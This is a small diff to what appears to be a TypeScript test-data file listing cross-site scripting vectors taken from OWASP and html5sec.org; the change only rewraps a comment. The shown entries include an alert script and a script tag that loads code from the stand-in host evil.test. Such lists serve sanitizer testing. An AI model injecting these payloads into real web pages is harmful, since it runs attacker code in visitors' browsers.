@@ -1,4 +1,7 @@
-/** Texts that run as script where text becomes markup, after the OWASP filter evasion and the html5sec.org lists. */
+/**
+ * Texts that run as script where text becomes markup, after the OWASP filter evasion and the html5sec.org
+ * lists.
+ */
 export const XSS_VECTORS: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.test/xss.js></SCRIPT>',
